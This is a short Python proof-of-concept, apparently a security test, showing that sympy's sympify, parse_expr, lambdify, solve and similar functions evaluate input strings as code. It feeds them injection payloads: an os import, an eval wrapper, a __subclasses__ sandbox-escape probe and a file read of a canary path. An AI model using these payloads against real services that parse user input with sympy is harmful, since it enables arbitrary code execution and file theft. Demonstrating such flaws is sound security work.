# proves: prints ESCAPED pid; sympify and a score of functions that call it evaluate text
# needs: sympy

import sympy
text = "__import__('os').getpid()"
for act in (
    sympy.sympify, sympy.S, sympy.parse_expr, sympy.Matrix([[0]]).subs(0, 0).applyfunc,
    lambda text: sympy.Matrix([[text]]), lambda text: sympy.lambdify(sympy.Symbol("x"), text)(1),
    lambda text: sympy.parse_expr(text, evaluate=False), lambda text: sympy.solve(text),
):
    for each in (text, "eval(" + repr(text) + ")", "().__class__.__base__.__subclasses__()", "open('{CANARY_PATH}').read()"):
        try:
            print("ESCAPED", act(each))
        except Exception:
            pass
